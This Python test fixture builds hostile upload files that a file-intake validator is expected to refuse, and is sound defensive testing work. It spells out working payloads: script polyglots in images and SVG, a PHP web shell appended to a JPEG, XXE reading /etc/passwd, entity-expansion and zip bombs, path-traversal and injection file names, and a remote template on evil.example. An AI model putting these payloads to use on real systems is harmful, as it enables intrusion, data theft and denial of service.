"""Files that were made to harm: each is one thing to a guard that looks quickly and another to whoever opens it."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image

from motcua.foundation.files.testing import PDF_BYTES, picture

SCRIPT = b"<html><script>alert(document.cookie)</script></html>"
CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">%s</Types>'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;">' % (98 + n, *[97 + n] * 8) for n in range(10))
    + b"]><x>&k;</x>"
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
# What /etc/passwd of every machine begins with: it may come back in no answer.
LEAK = "root:x:0"


def packed(parts: dict[str, bytes], *, level: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP of these parts; names are kept as they are, ``..`` too."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", level) as made:
        for name, content in parts.items():
            made.writestr(zipfile.ZipInfo(name), content, compress_type=level)
    return out.getvalue()


def letter(parts: dict[str, bytes] | None = None, *, types: bytes = b"") -> bytes:
    """A Word document with these parts more."""
    body = b'<?xml version="1.0"?><w:document xmlns:w="x"/>'
    return packed({"[Content_Types].xml": CONTENT_TYPES % types, "word/document.xml": body, **(parts or {})})


def sheet(parts: dict[str, bytes] | None = None) -> bytes:
    """A workbook, read by the library until it comes to these parts."""
    from openpyxl import Workbook

    out, book = io.BytesIO(), Workbook()
    book.active["A1"] = "x"
    book.save(out)
    with zipfile.ZipFile(out) as made:
        own = {name: made.read(name) for name in made.namelist()}
    return packed(own | (parts or {}))


def nested(depth: int = 4) -> bytes:
    """Archives in archives, each ten times the next."""
    inner = packed({"0.bin": bytes(1_000_000)})
    for n in range(depth):
        inner = packed({f"{n}-{i}.zip": inner for i in range(10)})
    return inner


def overlapping(names: int = 200) -> bytes:
    """Many entries of the list point at one content."""
    one = packed({"a.bin": bytes(100_000)})
    at = one.index(b"PK\x01\x02")
    end = one.index(b"PK\x05\x06")
    central = one[at:end]
    many = b"".join(central.replace(b"a.bin", b"%05d" % n) for n in range(names))
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, names, names, len(many), at, 0)
    return one[:at] + many + tail


def huge_picture(side: int = 60_000) -> bytes:
    """A PNG of a few bytes that says it has billions of points."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")


def written_picture() -> bytes:
    """A PNG with a page in its text."""
    from PIL.PngImagePlugin import PngInfo

    out, told = io.BytesIO(), PngInfo()
    told.add_text("Comment", SCRIPT.decode())
    Image.new("RGB", (8, 8), "navy").save(out, "PNG", pnginfo=told)
    return out.getvalue()


# id → (name, content): no place that takes files keeps any of them.
REFUSED = {
    "pdf-with-zip": ("don.pdf", PDF_BYTES + packed({"evil.exe": b"MZ"})),
    "pdf-in-zip-comment": ("don.pdf", PDF_BYTES + packed({"evil.jar": b"PK"})[:-2] + struct.pack("<H", 5) + b"%%EOF"),
    "gif-with-script": ("anh.gif", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//;"),
    "gif-named-png": ("anh.png", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//;"),
    "png-with-page-behind": ("anh.png", picture("PNG") + SCRIPT),
    "png-with-page-inside": ("anh.png", written_picture()),
    "png-with-bytes-behind": ("anh.png", picture("PNG") + bytes(50)),
    "png-with-zip": ("anh.png", picture("PNG") + packed({"a.exe": b"MZ"})),
    "jpeg-with-page-behind": ("anh.jpg", picture("JPEG") + SCRIPT),
    "jpeg-with-php": ("anh.php.jpg", picture("JPEG") + b"<?php system($_GET[0]); ?>"),
    "jpeg-with-zip": ("anh.jpg", picture("JPEG") + packed({"a.jar": b"MZ"})),
    "svg-with-script": ("dau.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    "svg-named-png": ("dau.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "html-named-pdf": ("don.pdf", SCRIPT),
    "html-before-pdf": ("don.pdf", SCRIPT + PDF_BYTES),
    "docx-with-macro": ("don.docx", letter({"word/vbaProject.bin": b"x"})),
    "docx-with-renamed-macro": ("don.docx", letter({"word/a.bin": b"x"}, types=b'<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>')),
    "docx-with-foreign-template": ("don.docx", letter({"word/_rels/settings.xml.rels": b'<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'})),
    "docx-with-laughs": ("don.docx", letter({"word/styles.xml": LAUGHS})),
    "docx-with-outside-entity": ("don.docx", letter({"word/styles.xml": OUTSIDE})),
    "docx-with-utf16-entity": ("don.docx", letter({"word/styles.xml": OUTSIDE.decode().encode("utf-16")})),
    "docx-climbing": ("don.docx", letter({"../../../tmp/evil": b"x"})),
    "docx-absolute": ("don.docx", letter({"/etc/evil": b"x"})),
    "docx-bomb": ("don.docx", letter({"word/media/0.bin": bytes(60_000_000)})),
    "docx-many-entries": ("don.docx", letter({f"word/{n}": b"" for n in range(10_050)})),
    "xml-laughs": ("sao-ke.xml", LAUGHS),
    "xml-outside-entity": ("sao-ke.xml", OUTSIDE),
    "zip-nested": ("goi.zip", nested()),
    "zip-overlapping": ("goi.zip", overlapping()),
    "zip-ratio": ("goi.zip", packed({"a.png": bytes(60_000_000)})),
    "zip-many-entries": ("goi.zip", packed({f"{n}": b"" for n in range(10_050)}, level=zipfile.ZIP_STORED)),
    "zip-climbing": ("goi.zip", packed({"../../evil.png": b"x", "/etc/evil": b"x", "C:\\evil": b"x", "a\x00.png": b"x"})),
    "xlsx-laughs": ("bang.xlsx", sheet({"xl/sharedStrings.xml": LAUGHS})),
    "xlsx-outside-entity": ("bang.xlsx", sheet({"xl/sharedStrings.xml": OUTSIDE})),
    "xlsx-bomb": ("bang.xlsx", sheet({"xl/sharedStrings.xml": b"<sst>" + b" " * 80_000_000 + b"</sst>"})),
    "xlsx-no-workbook": ("bang.xlsx", packed({"xl/a.xml": b"<a/>"})),
    "yaml-laughs": ("dinh-nghia.yaml", b"a: &a [x,x]\n" + b"".join(b"%c: &%c [*%c,*%c,*%c,*%c]\n" % (98 + n, 98 + n, *[97 + n] * 4) for n in range(15))),
    "json-deep": ("dinh-nghia.json", b"[" * 100_000),
    "picture-of-billions": ("anh.png", huge_picture()),
    "picture-of-a-hundred-million": ("anh.png", huge_picture(10_000)),
    "program": ("don.pdf.exe", b"MZ\x90\x00" + bytes(100)),
    "empty-zip-end": ("don.docx", b"PK\x05\x06" + bytes(18)),
    "broken-zip": ("don.docx", b"PK\x03\x04" + bytes(200)),
    "newer-zip": ("goi.zip", packed({"a": b"x"}).replace(b"\x14\x00\x00\x00", b"\xff\x00\x00\x00", 1).replace(b"PK\x01\x02\x14\x03\x14\x00", b"PK\x01\x02\x14\x03\xff\x00")),
}  # fmt: skip

# Names that lead elsewhere, break headers or look like another; the content beside them is good.
NAMES = (
    "../../../../etc/cron.d/evil.pdf", "/etc/evil.pdf", "C:\\Windows\\System32\\evil.pdf", "..\\..\\evil.pdf", "%2e%2e%2fevil.pdf", "evil.pdf\x00.exe",
    "a" * 5_000 + ".pdf", "giay\u202efdp.exe", "con.pdf", "LPT1", ".htaccess", "don.pdf\r\nSet-Cookie: a=b", 'don".pdf', "don';drop.pdf", "  .pdf", "\ud7ff\uffff.pdf",
)  # fmt: skip
